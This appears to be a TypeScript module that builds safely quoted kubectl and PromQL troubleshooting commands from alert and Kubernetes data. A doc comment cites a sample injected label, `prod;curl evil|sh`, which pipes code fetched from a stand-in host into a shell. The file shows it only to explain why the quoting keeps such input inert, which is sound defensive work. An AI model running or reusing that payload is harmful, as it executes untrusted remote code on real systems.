import type { MetricQuery } from "./families/types";
import type { Step, Target } from "./report";

/**
 * A piece of shell text that is safe to paste: written here or by the `sh`/`kubectl` templates,
 * never taken raw from an alert, a log line or a Kubernetes field.
 */
export class Shell {
  constructor(readonly text: string) {}
  toString(): string {
    return this.text;
  }
}

/** What a command template accepts: strings are quoted as (part of) one argument; nothing becomes "". */
export type ShellArg = string | number | Shell | null | undefined | false;

const plainWord = /^[A-Za-z0-9_.:/=@%+,-]+$/;

/**
 * The one shell-quoting helper: `value` as a single POSIX shell word. Plain words stay readable;
 * anything else is single-quoted ('' stays an empty word).
 */
export function shellQuote(value: string): string {
  return value !== "" && plainWord.test(value) ? value : `'${value.replace(/'/g, "'\\''")}'`;
}

/** `<name>` for the reader to fill in; a constant of ours, so it may stay unquoted. */
export function placeholder(name: string): Shell {
  return new Shell(`<${name}>`);
}

function argText(value: ShellArg, startsWord: boolean): string {
  if (value instanceof Shell) return value.text;
  if (value === null || value === undefined || value === false) return "";
  const s = String(value);
  // Quoting cannot stop `--server=https://…` from being read as an option: such a value is no name anyway.
  if (startsWord && s.startsWith("-")) return shellQuote("<invalid-name>");
  return shellQuote(s);
}

/**
 * A command from trusted literal text and interpolated arguments: every interpolated string is
 * shell-quoted, so a label such as `prod;curl evil|sh` stays one inert argument, and one that would
 * start a word with `-` (an option) becomes the inert argument `'<invalid-name>'`. `Shell` values (fragments built with
 * this template) are inserted as they are.
 */
export function sh(strings: TemplateStringsArray, ...values: ShellArg[]): Shell {
  let out = strings[0] ?? "";
  values.forEach((value, i) => {
    out += argText(value, out === "" || /\s$/.test(out)) + (strings[i + 1] ?? "");
  });
  return new Shell(out);
}

/** A `kubectl` step built like `sh`: kubectl`-n ${ns} get pod ${pod}`. */
export function kubectl(strings: TemplateStringsArray, ...values: ShellArg[]): Step {
  return { kind: "kubectl", text: `kubectl ${sh(strings, ...values).text}` };
}

export function promql(query: string): Step {
  return { kind: "promql", text: query };
}

export function text(value: string): Step {
  return { kind: "text", text: value };
}

/** Copy-paste steps for the queries that may run (a query refused as `notRun` is not offered either). */
export function promqlSteps(queries: MetricQuery[]): Step[] {
  return queries.filter((q) => !q.notRun).map((q) => promql(q.query));
}

/** `-n <namespace> ` (with its trailing space) when the target has a namespace, else nothing. */
export function nsFlag(namespace: string | null | undefined): Shell {
  return namespace ? sh`-n ${namespace} ` : new Shell("");
}

/** `deployment/<name>` for kubectl, or `<workload>` when unknown. */
export function workloadRef(workload: { kind: string; name: string } | null | undefined): Shell {
  return workload ? sh`${workload.kind.toLowerCase()}/${workload.name}` : placeholder("workload");
}

function ns(target: Target): Shell {
  return nsFlag(target.namespace);
}

export function podLogs(target: Target, options: { previous: boolean; container?: string | null }): Step | null {
  if (!target.pod) return null;
  const container = options.container ?? target.container;
  return kubectl`${ns(target)}logs ${target.pod}${container ? sh` -c ${container}` : null}${options.previous ? sh` --previous` : null} --tail=200`;
}

/** kubectl fallbacks that read the same facts the Kubernetes provider would have read. */
export function kubectlSteps(target: Target, options: { previousLogs?: boolean } = {}): Step[] {
  const steps: Step[] = [];
  if (target.pod && target.namespace) {
    steps.push(kubectl`${ns(target)}describe pod ${target.pod}`);
    steps.push(podLogs(target, { previous: options.previousLogs ?? true }) as Step);
    steps.push(kubectl`${ns(target)}get events --field-selector involvedObject.name=${target.pod} --sort-by=.lastTimestamp`);
  }
  if (target.workload && target.namespace) {
    const ref = workloadRef(target.workload);
    steps.push(kubectl`${ns(target)}get ${ref} -o wide`);
    if (["Deployment", "StatefulSet", "DaemonSet"].includes(target.workload.kind)) {
      steps.push(kubectl`${ns(target)}rollout history ${ref}`);
    }
    if (target.workload.kind === "Job") steps.push(kubectl`${ns(target)}describe job ${target.workload.name}`);
  } else if (target.pod && target.namespace) {
    steps.push(kubectl`${ns(target)}get pod ${target.pod} -o jsonpath='{.metadata.ownerReferences[*].name}'`);
  }
  if (target.node) {
    steps.push(kubectl`describe node ${target.node}`);
    steps.push(kubectl`get pods -A --field-selector spec.nodeName=${target.node}`);
  }
  if (target.service && target.namespace && !target.pod) {
    steps.push(kubectl`${ns(target)}get endpoints ${target.service}`);
    steps.push(kubectl`${ns(target)}get pods -o wide`);
  } else if (target.namespace && !target.pod && !target.workload) {
    steps.push(kubectl`${ns(target)}get pods -o wide`);
    steps.push(kubectl`${ns(target)}get events --sort-by=.lastTimestamp`);
  }
  return steps;
}

/** `host port` as two arguments from a `host:port` seen in a log line (`nc -zv host port`). */
export function hostPort(detail: string): Shell {
  const m = /^(.*):(\d+)$/.exec(detail);
  return m ? sh`${m[1]} ${m[2]}` : sh`${detail}`;
}
